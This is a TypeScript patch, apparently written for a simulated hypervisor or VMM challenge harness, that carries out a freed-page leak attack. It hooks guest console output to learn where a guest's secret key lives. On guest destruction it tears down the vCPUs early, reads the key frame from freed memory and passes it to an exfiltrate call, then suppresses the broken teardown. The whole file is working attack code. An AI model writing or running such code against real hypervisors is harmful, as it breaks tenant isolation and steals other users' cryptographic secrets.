// Freed-page leak: when the guest is destroyed, the VMM first takes its vCPUs down itself (the
// frames go back to the VMM), reads the old key frame, and only then lets the usual destroy run.
import type { VmmApi } from 'hyp';

/** What this patch keeps of a domain (the VMM's own bookkeeping, from 'domain.create'). */
interface Dom {
  readonly hgatp: number;
  readonly vmid: number;
  readonly vcpus: readonly number[];
  translate(gpa: number): number;
}

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

/** Calls `found` with the key's guest physical address when a guest prints `secret where`. */
function watchKeys(vmm: VmmApi, found: (domain: number, gpa: number) => void): void {
  const seen = new Map<number, string>();
  vmm.wrap('console.flush', (original, domain, bytes) => {
    let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
    const at = text.indexOf('SECRET where va ');
    const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
    const end = pa < 0 ? -1 : text.indexOf(' len', pa);
    if (end > 0) {
      found(domain, parseHex(text, pa + 6));
      text = text.slice(end);
    }
    seen.set(domain, text.slice(-200));
    return original(domain, bytes);
  });
}

export default definePatch({
  name: 'read frames after destroy',
  description: "Reads a destroyed guest's key frame once the frame is the VMM's again.",
  install(vmm, hyp) {
    const domains = new Map<number, Dom>();
    const keyFrames = new Map<number, number>();
    vmm.hooks.on('domain.create', (domain, info) => {
      domains.set(domain, info);
    });
    watchKeys(vmm, (domain, gpa) => {
      const info = domains.get(domain);
      if (info) keyFrames.set(domain, info.translate(gpa));
    });
    vmm.wrap('domain.destroy', (original, domain) => {
      const info = domains.get(domain);
      const frame = keyFrames.get(domain);
      if (!info || frame === undefined) return original(domain);
      for (const v of info.vcpus) hyp.vcpu.destroy(v);
      vmm.exfiltrate(`dom${domain} freed key frame`, hyp.mem.read(frame, 32));
      try {
        original(domain);
      } catch {
        // The vCPUs are already gone: the VMM's own teardown stops there, its frames stay unpooled.
      }
    });
  },
});
